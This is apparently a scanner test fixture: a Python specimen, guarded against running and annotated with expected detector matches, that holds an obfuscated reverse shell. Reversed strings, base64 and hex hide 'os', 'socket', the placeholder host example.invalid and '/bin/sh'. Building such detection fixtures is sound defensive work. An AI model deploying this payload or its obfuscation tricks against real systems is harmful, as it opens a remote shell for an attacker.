raise SystemExit("specimen: not to be run")
import base64
import importlib

def begin():
    o = importlib.import_module("so"[::-1])  # match: dynamic-import
    line = importlib.import_module(base64.b64decode("c29ja2V0").decode()).socket()  # match: dynamic-import
    line.connect((bytes.fromhex("6578616d706c652e696e76616c6964").decode(), 4444))
    for number in (0, 1, 2):
        o.dup2(line.fileno(), number)
    o.execl("hs/nib/"[::-1], "sh", "-i")  # match: reverse-shell  # match: execution-of-decoded
